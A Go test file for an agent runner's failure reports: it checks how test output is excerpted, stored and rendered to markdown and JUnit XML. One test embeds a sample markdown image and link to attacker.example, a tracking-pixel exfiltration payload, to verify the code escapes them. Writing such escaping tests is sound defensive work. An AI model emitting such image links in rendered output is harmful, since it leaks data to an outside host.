package runner

import (
	"encoding/xml"
	"fmt"
	"regexp"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/agentrun/agentrun/fuzzguard"
	"github.com/agentrun/agentrun/protocol"
	"github.com/agentrun/agentrun/sink"
	"github.com/agentrun/agentrun/textcut"
)

// numbered is n lines "prefix 1" … "prefix n", each ending in a newline.
func numbered(prefix string, n int) string {
	var b strings.Builder
	for i := 1; i <= n; i++ {
		fmt.Fprintf(&b, "%s %d\n", prefix, i)
	}
	return b.String()
}

var marker = regexp.MustCompile(`^\[… \d+ lines? left out …\]$`)

// checkExcerpt checks what holds for every excerpt: within its limits, valid UTF-8
// when the text is, and made of the text's lines (cleaned, cut at explainLineBytes), in
// order, and markers between them.
func checkExcerpt(t *testing.T, text, got string, maxLines, maxBytes int) {
	t.Helper()
	lines := strings.Split(got, "\n")
	if len(lines) > max(maxLines, 2) || len(got) > max(maxBytes, 2*explainLineBytes) {
		t.Fatalf("excerpt of %d lines and %d bytes, the limits are %d and %d:\n%s", len(lines), len(got), maxLines, maxBytes, got)
	}
	if utf8.ValidString(text) && !utf8.ValidString(got) {
		t.Fatalf("invalid UTF-8 in %q", got)
	}
	source := strings.Split(strings.TrimRight(sink.Clean(text), " \t\n"), "\n") // the end's blanks go
	next := 0
	for _, l := range lines {
		if marker.MatchString(l) {
			continue
		}
		found := false
		for ; next < len(source); next++ {
			if l == clip(source[next], explainLineBytes) {
				found, next = true, next+1
				break
			}
		}
		if !found {
			t.Fatalf("line %q is not a line of the text after the ones before it:\n%s", l, got)
		}
	}
}

func TestExcerpt(t *testing.T) {
	t.Parallel()
	longLine := strings.Repeat("x", 5000)
	pytest := numbered("tests/test_other.py::test_ok PASSED", 30) +
		"___________________________ test_parse ___________________________\n\n" +
		"    def test_parse():\n>       assert parse(\"\") == 3\nE       assert 4 == 3\nE        +  where 4 = parse('')\n\n" +
		"tests/test_parse.py:5: AssertionError\n" + numbered("tests/test_more.py::test_ok PASSED", 30) +
		"=========================== short test summary info ===========================\n" +
		"FAILED tests/test_parse.py::test_parse - assert 4 == 3\n========================= 1 failed, 60 passed in 0.52s =========================\n"
	panicking := numbered("=== RUN   TestQuiet", 20) + "panic: runtime error: index out of range [3] with length 3\n\n" +
		"goroutine 7 [running]:\nexample.com/m.Parse(...)\n\t/src/parse.go:12 +0x1d\n" +
		strings.Repeat("created by testing.(*T).Run in goroutine 1\n\t/usr/local/go/src/testing/testing.go:1742 +0x390\n", 40) +
		"FAIL\texample.com/m\t0.010s\nFAIL\n"
	twoFailures := numbered("=== RUN   TestA", 10) + "    a_test.go:10: got 1, want 2\n--- FAIL: TestA (0.00s)\n" +
		numbered("--- PASS: TestB", 30) + "    c_test.go:20: got 3, want 4\n--- FAIL: TestC (0.00s)\n" +
		numbered("--- PASS: TestD", 30) + "FAIL\n"
	tests := map[string]struct {
		text     string
		maxLines int
		maxBytes int
		want     []string // lines the excerpt holds, in order
		wantNot  []string // lines it leaves out
		exact    string   // the whole excerpt, when set
	}{
		"short text kept whole": {text: "ok\n--- FAIL: TestX\n\n", exact: "ok\n--- FAIL: TestX"},
		"go test: the assertion in the middle, noise after": {text: goTestOutput(20, 25),
			want: []string{"=== RUN   TestParse", "    parse_test.go:42: ", "        \tError:      \tNot equal: ",
				"        \t            \texpected: 3", "        \t            \tactual  : 4", "--- FAIL: TestParse (0.00s)",
				"FAIL", "FAIL\texample.com/m/parse\t0.012s", "FAIL"},
			wantNot: []string{"--- PASS: TestEarlier5 (0.00s)", "--- PASS: TestLater10 (0.00s)"}},
		"pytest": {text: pytest,
			want: []string{"    def test_parse():", ">       assert parse(\"\") == 3", "E       assert 4 == 3",
				"tests/test_parse.py:5: AssertionError", "FAILED tests/test_parse.py::test_parse - assert 4 == 3"},
			wantNot: []string{"tests/test_other.py::test_ok PASSED 3", "tests/test_more.py::test_ok PASSED 10"}},
		"a panic": {text: panicking,
			want: []string{"panic: runtime error: index out of range [3] with length 3", "goroutine 7 [running]:",
				"\t/src/parse.go:12 +0x1d", "FAIL\texample.com/m\t0.010s"},
			wantNot: []string{"=== RUN   TestQuiet 3"}},
		"two failures apart": {text: twoFailures,
			want: []string{"    a_test.go:10: got 1, want 2", "--- FAIL: TestA (0.00s)", "    c_test.go:20: got 3, want 4",
				"--- FAIL: TestC (0.00s)", "FAIL"},
			wantNot: []string{"--- PASS: TestB 10", "--- PASS: TestD 10"}},
		"no line names a failure: the last lines": {text: numbered("line", 100),
			want: []string{"[… 61 lines left out …]", "line 62", "line 100"}, wantNot: []string{"line 61"}},
		"long lines are cut": {text: strings.Repeat(longLine+"\n", 30) + "Error: " + longLine + "\n" + strings.Repeat(longLine+"\n", 30),
			want: []string{clip("Error: "+longLine, explainLineBytes)}},
		"escape sequences removed": {text: "\x1b[31m--- FAIL: TestX\x1b[0m\r\n\tx_test.go:3: boom\n",
			exact: "--- FAIL: TestX\n\tx_test.go:3: boom"},
		"small budget": {text: goTestOutput(20, 25), maxLines: 9, maxBytes: 875,
			want: []string{"        \t            \texpected: 3", "FAIL\texample.com/m/parse\t0.012s"}},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			maxLines, maxBytes := explainLines, explainBytes
			if tt.maxLines > 0 {
				maxLines, maxBytes = tt.maxLines, tt.maxBytes
			}
			got := excerpt(tt.text, maxLines, maxBytes)
			checkExcerpt(t, tt.text, got, maxLines, maxBytes)
			if tt.exact != "" {
				assert.Equal(t, tt.exact, got)
			}
			lines := strings.Split(got, "\n")
			last := -1
			for _, l := range tt.want {
				i := indexOf(lines[last+1:], l)
				if assert.GreaterOrEqual(t, i, 0, "the excerpt holds %q after line %d:\n%s", l, last+1, got) {
					last += 1 + i
				}
			}
			for _, l := range tt.wantNot {
				assert.NotContains(t, lines, l, "\n%s", got)
			}
		})
	}
}

// FuzzExcerpt checks that an excerpt of any text, within any limits, keeps to them and
// is made of the text's lines, and that what result.json keeps of any output ends with
// its last checkTail bytes and stays bounded.
func FuzzExcerpt(f *testing.F) {
	f.Add(goTestOutput(3, 4), 40, 3500)
	f.Add(goTestOutput(100, 300), 40, 3500)
	f.Fuzz(func(t *testing.T, text string, maxLines, maxBytes int) {
		maxLines, maxBytes = maxLines%200, maxBytes%20000
		fuzzguard.Run(len(text), func() {
			checkExcerpt(t, text, excerpt(text, maxLines, maxBytes), maxLines, maxBytes)
			stored := storedOutput(text)
			if !strings.HasSuffix(stored, textcut.Tail(text, checkTail)) || len(stored) > 2*checkTail+100 {
				t.Fatalf("stored %d bytes of %d: %q", len(stored), len(text), stored)
			}
		})
	})
}

func TestStoredOutput(t *testing.T) {
	t.Parallel()
	long := goTestOutput(100, 300)
	require.Greater(t, len(long), 4*checkTail)
	tests := map[string]struct {
		out     string
		want    []string // lines the stored output holds, in order
		wantNot []string
	}{
		"short output kept whole": {out: goTestOutput(2, 2)},
		"the failure before the tail kept too": {out: long,
			want: []string{"=== RUN   TestParse", "        \t            \texpected: 3",
				"        \t            \tactual  : 4", "--- FAIL: TestParse (0.00s)"},
			wantNot: []string{"--- PASS: TestEarlier50 (0.00s)", "--- PASS: TestLater50 (0.00s)"}},
		"no failure line: the tail only": {out: numbered("line", 2000)},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			got := storedOutput(tt.out)
			if len(tt.out) <= checkTail {
				assert.Equal(t, tt.out, got)
				return
			}
			assert.True(t, strings.HasSuffix(got, tt.out[len(tt.out)-checkTail:]), "the last %d bytes, as before", checkTail)
			assert.LessOrEqual(t, len(got), 2*checkTail+100)
			if tt.want == nil {
				assert.Equal(t, textcut.Ellipsis+textcut.Tail(tt.out, checkTail), got)
			}
			lines := strings.Split(got, "\n")
			if tt.want != nil {
				assert.Regexp(t, marker, lines[0], "the lines before the failure are left out")
			}
			last := -1
			for _, l := range tt.want {
				i := indexOf(lines[last+1:], l)
				if assert.GreaterOrEqual(t, i, 0, "holds %q", l) {
					last += 1 + i
				}
			}
			for _, l := range tt.wantNot {
				assert.NotContains(t, lines, l)
			}
			// The reports find the assertion again in what result.json keeps.
			if tt.want != nil {
				assert.Contains(t, excerpt(got, explainLines, explainBytes), "expected: 3")
			}
		})
	}
}

func TestExplain(t *testing.T) {
	t.Parallel()
	check := func(name string, code int, out string) protocol.Check {
		return protocol.Check{Name: name, ExitCode: code, Output: out}
	}
	failed := func(n int) []protocol.Check {
		var cs []protocol.Check
		for i := range n {
			cs = append(cs, check(fmt.Sprintf("c%d", i), i+1, goTestOutput(10, 10)+fmt.Sprintf("[exit code %d]", i+1)))
		}
		return cs
	}
	tests := map[string]struct {
		res        protocol.Result
		want       *Failure
		wantDetail []string // when want is nil: the detail holds these lines, in order
	}{
		"success": {res: protocol.Result{Status: protocol.StatusSuccess}},
		"a limit": {res: protocol.Result{Status: protocol.StatusMaxTurns, Error: &protocol.Error{Kind: protocol.ErrMaxTurns, Message: "max turns (2) reached"}},
			want: &Failure{Summary: "error_max_turns: max turns (2) reached"}},
		"a provider error": {res: protocol.Result{Status: protocol.StatusProvider, Error: &protocol.Error{Kind: protocol.ErrServer, Message: "HTTP 500: down"}},
			want: &Failure{Summary: "error_provider: server: HTTP 500: down"}},
		"a panic": {res: protocol.Result{Status: protocol.StatusCrashed, Error: &protocol.Error{Kind: protocol.ErrPanic, Message: "panic: boom"}},
			want: &Failure{Summary: "crashed: panic: boom"}},
		"no error": {res: protocol.Result{Status: protocol.StatusCrashed}, want: &Failure{Summary: "crashed"}},
		"a message of several lines": {res: protocol.Result{Status: protocol.StatusOutputSchema, Error: &protocol.Error{Kind: protocol.ErrSchema,
			Message: "the final answer does not match output_schema: jsonschema validation failed\n- at '/answer': got string, want integer"}},
			want: &Failure{Summary: "error_output_schema: the final answer does not match output_schema: jsonschema validation failed",
				Detail: "- at '/answer': got string, want integer"}},
		"a long message": {res: protocol.Result{Status: protocol.StatusRequest, Error: &protocol.Error{Kind: protocol.ErrRequest, Message: strings.Repeat("é", 400)}},
			want: &Failure{Summary: clip("error_request: "+strings.Repeat("é", 400), summaryBytes)}},
		"control characters": {res: protocol.Result{Status: protocol.StatusAuth, Error: &protocol.Error{Kind: protocol.ErrAuth, Message: "\x1b[1mHTTP 401\x1b[0m: bad\r key"}},
			want: &Failure{Summary: "error_auth: HTTP 401: bad key"}},
		"a check without output": {res: protocol.Result{Status: protocol.StatusChecks,
			Error:  &protocol.Error{Kind: protocol.ErrChecks, Message: "check grep failed: exit code 1"},
			Checks: []protocol.Check{{Name: "ok", Passed: true, Output: "fine"}, check("grep", 1, "[exit code 1]")}},
			want: &Failure{Summary: "error_checks: check grep failed: exit code 1", Detail: "(no output)"}},
		"two failed checks": {res: protocol.Result{Status: protocol.StatusChecks,
			Error: &protocol.Error{Kind: protocol.ErrChecks, Message: "checks failed: c0 (exit code 1), c1 (exit code 2)"}, Checks: failed(2)},
			wantDetail: []string{"[check c0 · exit code 1]", "        \t            \texpected: 3", "FAIL\texample.com/m/parse\t0.012s",
				"[check c1 · exit code 2]", "        \t            \texpected: 3", "FAIL\texample.com/m/parse\t0.012s"},
		},
		"six failed checks": {res: protocol.Result{Status: protocol.StatusChecks,
			Error: &protocol.Error{Kind: protocol.ErrChecks, Message: "checks failed: …"}, Checks: failed(6)},
			wantDetail: []string{"[check c0 · exit code 1]", "        \t            \texpected: 3", "[check c3 · exit code 4]",
				"        \t            \texpected: 3", "[2 more failed checks: see their result.json]"},
		},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			got := explain(&tt.res)
			if tt.wantDetail == nil {
				assert.Equal(t, tt.want, got)
				return
			}
			require.NotNil(t, got)
			assert.Equal(t, "error_checks: "+tt.res.Error.Message, got.Summary)
			lines := strings.Split(got.Detail, "\n")
			assert.LessOrEqual(t, len(lines), explainLines, got.Detail)
			assert.LessOrEqual(t, len(got.Text()), maxAnnotation)
			assert.NotContains(t, lines, "[exit code 1]", "the summary says the exit code")
			last := -1
			for _, l := range tt.wantDetail {
				i := indexOf(lines[last+1:], l)
				if assert.GreaterOrEqual(t, i, 0, "the detail holds %q after line %d:\n%s", l, last+1, got.Detail) {
					last += 1 + i
				}
			}
		})
	}
}

// TestFailureRendering checks the reports' rendering of a failure whose detail holds
// what XML and markdown must escape, and of a row read from a summary.json written
// before rows had a failure.
func TestFailureRendering(t *testing.T) {
	t.Parallel()
	detail := "<tag> & \"quotes\" ]]> \x1b[31m\n```\ncode fence\n```"
	res := &protocol.Result{Key: "k", Status: protocol.StatusChecks,
		Error:  &protocol.Error{Kind: protocol.ErrChecks, Message: "check a|b failed: exit code 2"},
		Checks: []protocol.Check{{Name: "a|b", ExitCode: 2, Output: detail}}}
	f := explain(res)
	require.NotNil(t, f)
	sum := &Summary{Spec: "jobs.yaml", Sessions: []Row{rowOf(res, false),
		{Key: "old", Status: protocol.StatusAuth, Error: &protocol.Error{Kind: protocol.ErrAuth, Message: "HTTP 401: bad key"}}}}

	md := sum.Markdown()
	assert.Contains(t, md, "- `k` error_checks: check a\\|b failed: exit code 2\n  ````\n")
	assert.Contains(t, md, "\n  ````\n  <tag> & \"quotes\" ]]> \n  ```\n  code fence\n  ```\n  ````\n",
		"the detail is a code block, its fence longer than any run of backticks in it")
	assert.Contains(t, md, "- `old` error_auth: HTTP 401: bad key\n")

	// A message that a server or the model wrote may hold markdown's links and images:
	// GitHub fetches an image of the step summary as it renders it, and shows a link as
	// the run's own. Both stay text.
	pixel := &protocol.Result{Key: "img", Status: protocol.StatusProvider, Error: &protocol.Error{Kind: protocol.ErrRequest,
		Message: `HTTP 400: ![pixel](https://attacker.example/p.png?d=x) see [the docs](https://attacker.example/login) \[x]`}}
	md = (&Summary{Spec: "jobs.yaml", Sessions: []Row{rowOf(pixel, false)}}).Markdown()
	assert.Contains(t, md, `!\[pixel\](https://attacker.example/p.png?d=x) see \[the docs\](https://attacker.example/login) \\\[x\]`)
	assert.NotRegexp(t, `(^|[^\\])\]\(`, md, "a link or an image is left in summary.md")

	doc, err := sum.JUnit(func(string) string { return t.TempDir() })
	require.NoError(t, err)
	var parsed struct {
		Cases []junitCaseDoc `xml:"testsuite>testcase"`
	}
	require.NoError(t, xml.Unmarshal(doc, &parsed))
	require.Len(t, parsed.Cases, 2)
	if assert.NotNil(t, parsed.Cases[0].Failure) {
		assert.Equal(t, f.Summary, parsed.Cases[0].Failure.Message)
		assert.Equal(t, f.Detail, parsed.Cases[0].Failure.Text)
	}
	if assert.NotNil(t, parsed.Cases[1].Error) {
		assert.Equal(t, "error_auth: HTTP 401: bad key", parsed.Cases[1].Error.Message)
		assert.Equal(t, "error_auth: HTTP 401: bad key", parsed.Cases[1].Error.Text)
	}
	assert.NotContains(t, string(doc), "\x1b")
}

// BenchmarkExplain explains a session whose check printed a long go test run: what
// result.json keeps of it, then the excerpt the reports show.
func BenchmarkExplain(b *testing.B) {
	out := goTestOutput(1000, 3000)
	b.SetBytes(int64(len(out)))
	for b.Loop() {
		res := &protocol.Result{Status: protocol.StatusChecks, Error: &protocol.Error{Kind: protocol.ErrChecks, Message: "check tests failed: exit code 1"},
			Checks: []protocol.Check{{Name: "tests", ExitCode: 1, Output: storedOutput(out)}}}
		if explain(res).Detail == "" {
			b.Fatal("no detail")
		}
	}
}
